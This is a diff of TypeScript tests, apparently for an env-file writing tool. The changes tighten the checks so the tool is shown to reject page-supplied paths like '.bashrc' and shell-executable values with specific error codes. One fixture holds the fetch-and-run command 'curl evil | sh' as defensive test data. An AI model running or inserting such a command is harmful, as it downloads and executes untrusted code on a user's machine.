@@ -68,15 +68,12 @@ const pick = async (id: string, path: string): Promise<string> => {
 it('takes no path from the page, under any name', async () => {
   const id = await importOne('evil', 'curl evil | sh')
   const target = join(folder, '.bashrc')
-  for (const input of [
-    { id, path: target, variable: 'A' },
-    { id, path: target, realPath: target, variable: 'A' },
-    { id, file: target, path: target, variable: 'A' },
-  ]) {
-    expect(await subject.dispatch('deliveries.writeEnv', input)).toMatchObject({
-      ok: false,
-      error: { code: expect.stringMatching(/^invalid_input\./) as unknown },
-    })
+  for (const [input, code] of [
+    [{ id, path: target, variable: 'A' }, 'invalid_input.missing'],
+    [{ id, path: target, realPath: target, variable: 'A' }, 'invalid_input.missing'],
+    [{ id, file: target, path: target, variable: 'A' }, 'invalid_input.unknown_field'],
+  ] as const) {
+    expect(await subject.dispatch('deliveries.writeEnv', input)).toMatchObject({ ok: false, error: { code } })
   }
   expect(await subject.dispatch('deliveries.pickEnvFile', { id, path: target })).toMatchObject({
     ok: false,
@@ -240,10 +237,13 @@ describe('a value that a shell could execute', () => {
     const file = join(folder, '.env')
     const handle = await pick(id, file)
     const input = { id, file: handle, variable: 'API_KEY' }
-    for (const answers of [{ accepted: ['env_shell_executes'] }, { shellConfirmed: true }])
+    for (const [answers, code] of [
+      [{ accepted: ['env_shell_executes'] }, 'invalid_input.one_of'],
+      [{ shellConfirmed: true }, 'invalid_input.unknown_field'],
+    ] as const)
       expect(await subject.dispatch('deliveries.writeEnv', { ...input, ...answers })).toMatchObject({
         ok: false,
-        error: { code: expect.stringMatching(/^invalid_input\./) as unknown },
+        error: { code },
       })
     expect(asked.code).toEqual([])
     expect(await ask('deliveries.writeEnv', { ...input, accepted: ['env_rest_of_line'] })).toMatchObject({
